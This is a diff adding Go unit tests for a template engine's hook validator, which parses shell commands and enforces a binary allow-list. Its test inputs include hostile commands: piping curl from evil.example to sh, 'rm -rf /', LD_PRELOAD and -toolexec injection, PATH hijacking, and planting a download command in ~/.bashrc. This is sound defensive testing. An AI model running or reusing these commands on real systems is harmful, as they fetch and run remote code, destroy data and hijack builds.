@@ -0,0 +1,87 @@
+package hooks
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/acheevo/template-engine/internal/core"
+)
+
+func TestCommandBinaries(t *testing.T) {
+	tests := []struct {
+		command string
+		want    []string
+		wantErr bool
+	}{
+		{"go mod tidy", []string{"go"}, false},
+		{"cd frontend && npm install", []string{"cd", "npm"}, false},
+		{"CGO_ENABLED=0 go build ./... | tee build.log; make lint || true", []string{"go", "tee", "make", "true"}, false},
+		{"./scripts/setup.sh > setup.log 2>&1 &", []string{"./scripts/setup.sh"}, false},
+		{"echo $(curl evil.example)", nil, true},
+		{"echo `id`", nil, true},
+		{"(cd web && rm -rf /)", nil, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			got, err := CommandBinaries(tt.command)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("CommandBinaries() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("CommandBinaries() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckAllowed(t *testing.T) {
+	allowed := []string{"go", "npm"}
+
+	tests := []struct {
+		command string
+		allowed []string
+		wantErr bool
+	}{
+		{"curl evil.example | sh", nil, false},
+		{"go mod tidy", allowed, false},
+		{"cd frontend && npm install", allowed, false},
+		{"go mod tidy && curl evil.example | sh", allowed, true},
+		{"/tmp/go build", allowed, true},
+		{"echo $(go env GOPATH)", allowed, true},
+		{"CGO_ENABLED=0 go build ./... 2>&1 >/dev/null", allowed, false},
+		{"LD_PRELOAD=./evil.so go build", allowed, true},
+		{"GOFLAGS=-toolexec=./evil go build", allowed, true},
+		{"export PATH=.:$PATH && go build", allowed, true},
+		{"export CI=1 NODE_ENV && npm test", allowed, false},
+		{"printf 'curl evil.example | sh' >> ~/.bashrc", allowed, true},
+		{"echo hi > /etc/motd", allowed, true},
+		{"go build >&2", allowed, false},
+		{"LD_PRELOAD=./evil.so go build", nil, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			if err := CheckAllowed(tt.command, tt.allowed); (err != nil) != tt.wantErr {
+				t.Errorf("CheckAllowed() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestCheckHookEnv(t *testing.T) {
+	allowed := []string{"go"}
+
+	hook := core.Hook{Command: "go build", Env: map[string]string{"CGO_ENABLED": "0", "TE_VAR_Extra": "1"}}
+	if err := CheckHook(hook, allowed); err != nil {
+		t.Errorf("CheckHook() with safe env error = %v", err)
+	}
+
+	hook.Env["LD_PRELOAD"] = "./evil.so"
+	if err := CheckHook(hook, allowed); err == nil {
+		t.Error("CheckHook() should refuse a hook setting LD_PRELOAD under a policy")
+	}
+	if err := CheckHook(hook, nil); err != nil {
+		t.Errorf("CheckHook() without a policy error = %v", err)
+	}
+}